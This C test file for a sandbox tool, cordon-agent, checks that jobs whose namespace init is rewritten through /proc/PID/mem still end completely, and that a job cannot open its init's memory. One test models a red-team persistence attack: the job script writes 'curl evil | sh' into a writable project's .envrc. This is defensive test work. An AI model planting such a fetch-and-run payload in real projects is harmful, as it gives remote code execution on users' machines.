/* The end of an isolated job does not depend on the job (docs/SECURITY.md,
 * "The job's init"): the real cordon-agent runs real packages under real
 * bwrap, as root (jobs as a throw-away job user) and as that user, and the
 * test, as root, rewrites the job's namespace init from outside through
 * /proc/PID/mem the way a job that could reach it would: the init clears
 * its parent-death signal and pauses (and, for a normal end, first tells
 * bwrap the entry exited 0). Whatever ends the job then (its exit, its
 * timeout, exec's SIGTERM, a kill -9 of exec), nothing of it may run on.
 * And the job itself cannot open its init's memory at all.
 */
#include <criterion/criterion.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "init_harness.h"
#include "sbx_harness.h"

struct env {
  bool as_user;      /* agent runs as u */
  struct sbx_user u; /* the job user (and in as_user, the agent's) */
  struct sbx_dirs d; /* temp dir, agent --config, package source dir */
  char marker[64];   /* the sleep length that names the job's worker */
};

static struct env E;

static void setup_env(bool as_user) {
  memset(&E, 0, sizeof(E));
  init_harness_skip_unless_able();
  E.as_user = as_user;
  sbx_user_make(&E.u, as_user ? "cdninu" : "cdninj");
  uid_t owner = as_user ? E.u.uid : 0;
  gid_t group = as_user ? E.u.gid : 0;
  sbx_dirs_make(&E.d, "/tmp/cordon-ini-XXXXXX", owner, group);
  char c[256];
  if (as_user)
    snprintf(c, sizeof(c), "{}");
  else
    snprintf(c, sizeof(c), "{\"job_user\": \"%s\"}", E.u.name);
  sbx_agent_config(&E.d, c);
  snprintf(E.marker, sizeof(E.marker), "3000.%d7", getpid());
}

static void teardown_env(void) {
  if (E.marker[0])
    xsystem("pkill -KILL -f '^sleep %s$' ; true", E.marker);
  if (E.d.root[0])
    xsystem("rm -rf %s", E.d.root);
  sbx_user_drop(&E.u);
}

static void setup_root(void) {
  setup_env(false);
}
static void setup_user(void) {
  setup_env(true);
}

#define BOTH(name) SBX_BOTH(init_root, init_user, name)

/* The package: run.sh starts the worker (sleep MARKER), waits until the
 * test has rewritten the init, then does tail. */
static void package(int timeout_s, const char *tail) {
  char m[512], s[1024];
  snprintf(m, sizeof(m),
           "{\"name\":\"t\",\"version\":\"1\",\"entry\":[\"/bin/sh\",\"run.sh\"],\"timeout_s\":%d}",
           timeout_s);
  snprintf(s, sizeof(s),
           "sleep %s &\n"
           "until [ -e /cordon/workspace/patched ]; do sleep 0.05; done\n"
           "%s\n",
           E.marker, tail);
  sbx_package_files(&E.d, m, s);
}

/* `cordon-agent --config C exec PKG --json` started, not waited for;
 * stdout into ROOT/out. */
static pid_t agent_start(void) {
  char outp[128];
  snprintf(outp, sizeof(outp), "%s/out", E.d.root);
  pid_t pid = fork();
  cr_assert(pid >= 0);
  if (pid == 0) {
    int fd = open(outp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || dup2(fd, 1) < 0)
      _exit(SBX_EXIT_NO_EXEC);
    char home[300];
    snprintf(home, sizeof(home), "HOME=%s", E.as_user ? E.u.home : "/root");
    char *envp[] = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin", home, NULL};
    if (E.as_user && (setgroups(0, NULL) < 0 || setgid(E.u.gid) < 0 || setuid(E.u.uid) < 0))
      _exit(SBX_EXIT_NO_USER);
    char *argv[] = {AGENT, "--config", E.d.config, "exec", E.d.pkg, "--json", NULL};
    execve(AGENT, argv, envp);
    _exit(SBX_EXIT_NO_EXEC);
  }
  return pid;
}

/* The agent's result, once it has ended; its wait status in *out_st. */
static json_t *agent_wait(pid_t pid, int *out_st) {
  while (waitpid(pid, out_st, 0) < 0 && errno == EINTR)
    ;
  char outp[128];
  snprintf(outp, sizeof(outp), "%s/out", E.d.root);
  json_error_t je;
  return json_load_file(outp, 0, &je);
}

BOTH(a_rewritten_init_ends_with_the_jobs_result) {
  package(20, "exit 0");
  pid_t agent = agent_start();
  pid_t init = find_init(agent);
  rewrite_init(init, event_fd_of(init), E.u.uid, E.u.gid);
  int st;
  json_t *res = agent_wait(agent, &st);
  assert_job_gone(init, E.marker);
  cr_assert(res, "no result");
  cr_assert_eq(json_integer_value(jget(res, "exit_code")), 0);
  cr_assert(json_is_false(jget(res, "timed_out")));
  cr_assert_str_eq(sbx_jstr(res, "kill_scope"), "pid-namespace");
  cr_assert_geq(json_integer_value(jget(res, "orphans_killed")), 1);
  json_decref(res);
}

BOTH(a_rewritten_init_ends_at_the_timeout) {
  /* an orphan's exit wakes the init into the rewritten code */
  package(3, "(sleep 0.2 &); sleep 100");
  pid_t agent = agent_start();
  pid_t init = find_init(agent);
  rewrite_init(init, -1, E.u.uid, E.u.gid);
  int st;
  json_t *res = agent_wait(agent, &st);
  assert_job_gone(init, E.marker);
  cr_assert(res, "no result");
  cr_assert(json_is_true(jget(res, "timed_out")));
  cr_assert_str_eq(sbx_jstr(res, "kill_scope"), "pid-namespace");
  json_decref(res);
}

/* exec of a job whose init was rewritten and has run into the new code
 * (an orphan's exit woke it): exec's pid, the init's in *out_init. */
static pid_t exec_with_a_rewritten_init(pid_t *out_init) {
  package(60, "(sleep 0.2 &); sleep 100");
  pid_t agent = agent_start();
  pid_t init = find_init(agent);
  rewrite_init(init, -1, E.u.uid, E.u.gid);
  wait_paused(init);
  *out_init = init;
  return agent;
}

BOTH(a_rewritten_init_ends_when_exec_gets_sigterm) {
  pid_t init;
  pid_t agent = exec_with_a_rewritten_init(&init);
  cr_assert_eq(kill(agent, SIGTERM), 0);
  int st;
  json_t *res = agent_wait(agent, &st);
  assert_job_gone(init, E.marker);
  cr_assert(WIFSIGNALED(st) && WTERMSIG(st) == SIGTERM, "exec ends by its SIGTERM: %d", st);
  cr_assert(res, "the result is printed first");
  cr_assert_str_eq(sbx_jstr(res, "error.code"), "cancelled");
  cr_assert_str_eq(sbx_jstr(res, "kill_scope"), "pid-namespace");
  json_decref(res);
}

BOTH(a_rewritten_init_ends_when_exec_is_killed) {
  pid_t init;
  pid_t agent = exec_with_a_rewritten_init(&init);
  cr_assert_eq(kill(agent, SIGKILL), 0);
  int st;
  json_t *res = agent_wait(agent, &st);
  json_decref(res);
  assert_job_gone(init, E.marker);
}

BOTH(the_job_cannot_open_its_inits_memory) {
  char m[256];
  snprintf(
      m, sizeof(m),
      "{\"name\":\"t\",\"version\":\"1\",\"entry\":[\"/bin/sh\",\"run.sh\"],\"timeout_s\":20}");
  sbx_package_files(&E.d, m,
                    "for f in /proc/1/mem /proc/1/task/1/mem; do\n"
                    "  if (exec 3<>$f) 2>/dev/null; then echo OPENED $f; fi\n"
                    "done\n"
                    "cat /proc/1/status 2>/dev/null | grep -c PPid\n"
                    "echo end\n");
  struct sbx_exec x =
      sbx_exec_of(&E.d, "exec", NULL, E.as_user ? E.u.name : NULL, E.as_user ? E.u.home : "/root");
  x.json = true;
  struct sbx_run r = sbx_run_agent(&x);
  sbx_assert_ran(&r, "isolated");
  const char *out = out_of(&r);
  cr_assert(strstr(out, "end"), "%s", out);
  cr_assert_null(strstr(out, "OPENED"), "the job opened its init's memory: %s", out);
  cr_assert(strstr(out, "0\n"), "the init's /proc directory is empty: %s", out);
  json_decref(r.res);
}

/* An isolated job's tree always ends with its namespace: a job that ends
 * alone has nothing of it counted, one that leaves a process has it
 * ended (counted too, unless bwrap's init took it down a moment before
 * the agent looked). */
BOTH(kill_scope_of_an_isolated_job_is_its_pid_namespace) {
  char m[256];
  snprintf(
      m, sizeof(m),
      "{\"name\":\"t\",\"version\":\"1\",\"entry\":[\"/bin/sh\",\"run.sh\"],\"timeout_s\":20}");
  sbx_package_files(&E.d, m, "echo alone\n");
  struct sbx_exec x =
      sbx_exec_of(&E.d, "exec", NULL, E.as_user ? E.u.name : NULL, E.as_user ? E.u.home : "/root");
  x.json = true;
  struct sbx_run r = sbx_run_agent(&x);
  sbx_assert_ran(&r, "isolated");
  cr_assert_str_eq(sbx_jstr(r.res, "kill_scope"), "pid-namespace");
  cr_assert_eq(json_integer_value(jget(r.res, "orphans_killed")), 0);
  json_decref(r.res);
  char script[128];
  snprintf(script, sizeof(script), "setsid sleep %s &\nsleep 0.2\n", E.marker);
  sbx_package_files(&E.d, m, script);
  r = sbx_run_agent(&x);
  sbx_assert_ran(&r, "isolated");
  cr_assert_str_eq(sbx_jstr(r.res, "kill_scope"), "pid-namespace");
  cr_assert(!worker_alive(E.marker), "the job's leftover outlived it");
  json_decref(r.res);
}

/* The red team's survivor wrote .envrc into a writable grant after the
 * result, the quarantine walk done; the job now ends before that walk. */
BOTH(a_rewritten_inits_worker_cannot_write_a_grant_after_the_result) {
  xsystem("mkdir -p %s/proj && chown -R %s: %s/proj", E.u.home, E.u.name, E.u.home);
  char m[512], s[1024];
  snprintf(m, sizeof(m),
           "{\"name\":\"t\",\"version\":\"1\",\"entry\":[\"/bin/sh\",\"run.sh\"],\"timeout_s\":20,"
           "\"capabilities\":{\"fs\":[{\"path\":\"~/proj\",\"access\":\"rw\"}]}}");
  snprintf(s, sizeof(s),
           "sleep %s &\n"
           "(until [ -e /cordon/workspace/patched ]; do sleep 0.05; done; sleep 1;"
           " echo 'curl evil | sh' > ~/proj/.envrc) &\n"
           "until [ -e /cordon/workspace/patched ]; do sleep 0.05; done\n"
           "exit 0\n",
           E.marker);
  sbx_package_files(&E.d, m, s);
  pid_t agent = agent_start();
  pid_t init = find_init(agent);
  rewrite_init(init, event_fd_of(init), E.u.uid, E.u.gid);
  int st;
  json_t *res = agent_wait(agent, &st);
  cr_assert(res, "no result");
  cr_assert_eq(json_integer_value(jget(res, "exit_code")), 0);
  usleep(1500 * 1000); /* past the worker's second */
  char p[512];
  snprintf(p, sizeof(p), "%s/proj/.envrc", E.u.home);
  cr_assert(access(p, F_OK) != 0, "a worker of the job wrote %s after its result", p);
  assert_job_gone(init, E.marker);
  json_decref(res);
}
